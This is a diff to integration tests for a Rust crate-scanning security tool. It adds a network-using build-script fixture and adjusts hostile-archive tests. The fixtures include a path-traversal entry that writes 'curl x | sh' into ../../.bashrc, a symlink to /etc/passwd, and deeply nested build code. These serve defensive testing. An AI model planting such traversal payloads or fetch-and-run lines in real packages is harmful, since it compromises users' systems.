@@ -47,8 +47,16 @@ fn json_contract_and_exit_codes() {
     assert_eq!(out.status.code(), Some(0));
 
     // --fail-on suspicious makes a suspicious crate fail; never never fails.
-    let svc = fixtures().join("benign/svc-install");
-    assert_eq!(ferret().args(["scan", "--fail-on", "suspicious"]).arg(&svc).output().unwrap().status.code(), Some(1));
+    // A build script that uses the network (BLD002, high): suspicious.
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("Cargo.toml"), "[package]\nname = \"netbuild\"\nversion = \"0.1.0\"\n").unwrap();
+    std::fs::write(dir.path().join("build.rs"), "fn main() { let _ = ureq::get(\"https://example.com/schema.json\").call(); }").unwrap();
+    std::fs::create_dir(dir.path().join("src")).unwrap();
+    std::fs::write(dir.path().join("src/lib.rs"), "").unwrap();
+    let out = ferret().args(["scan", "--format", "json", "--fail-on", "suspicious"]).arg(dir.path()).output().unwrap();
+    assert_eq!(json(&out.stdout)["reports"][0]["verdict"], "suspicious");
+    assert_eq!(out.status.code(), Some(1));
+    assert_eq!(ferret().args(["scan"]).arg(dir.path()).output().unwrap().status.code(), Some(0));
     assert_eq!(ferret().args(["scan", "--fail-on", "never"]).arg(fixtures().join("malicious/rustdecimal")).output().unwrap().status.code(), Some(0));
 }
 
@@ -95,8 +103,9 @@ fn hostile_archives_become_findings_not_crashes() {
     let dir = tempfile::tempdir().unwrap();
     // Path traversal and a symlink: refused and reported.
     let evil = CrateBuilder::new("evil", "0.1.0")
+        .minimal_manifest()
         .file("src/lib.rs", "pub fn f() {}")
-        .unchecked_entry("evil-0.1.0/../../.bashrc", b"curl x | sh")
+        .unchecked_entry(b"evil-0.1.0/../../.bashrc", b"curl x | sh")
         .symlink("src/link.rs", "/etc/passwd")
         .build();
     std::fs::write(dir.path().join("evil-0.1.0.crate"), evil).unwrap();
@@ -124,7 +133,7 @@ fn hostile_archives_become_findings_not_crashes() {
     }
     // Deeply nested code in a build script.
     let deep = format!("fn main() {{ let x = {}1{}; }}", "(".repeat(20_000), ")".repeat(20_000));
-    let nested = CrateBuilder::new("nested", "0.1.0").file("build.rs", &deep).file("src/lib.rs", "").build();
+    let nested = CrateBuilder::new("nested", "0.1.0").minimal_manifest().file("build.rs", &deep).file("src/lib.rs", "").build();
     std::fs::write(dir.path().join("nested-0.1.0.crate"), nested).unwrap();
 
     let out = ferret().args(["scan", "--format", "json", "--no-progress"]).arg(dir.path()).output().unwrap();
@@ -159,7 +168,7 @@ fn name_at_version_comes_from_the_registry_with_its_checksum_checked() {
 
     // A registry that serves bytes that do not match the index checksum: a clear error.
     let reg2 = FakeRegistry::start();
-    reg2.publish_with(ferret_testkit::Publish::new("tampered", "1.0.0", crate_bytes_from_dir(&fixtures().join("benign/minireq"), "tampered", "1.0.0")).cksum("0".repeat(64)));
+    reg2.publish_with(ferret_testkit::Publish::new("tampered", "1.0.0", crate_bytes_from_dir(&fixtures().join("benign/minireq"), "tampered", "1.0.0")).cksum(&"0".repeat(64)));
     let out = ferret().args(["scan", "--format", "json", "--index", &reg2.index_url(), "tampered@1.0.0"]).output().unwrap();
     let v = json(&out.stdout);
     let err = v["reports"][0]["error"].as_str().unwrap_or_default().to_string();
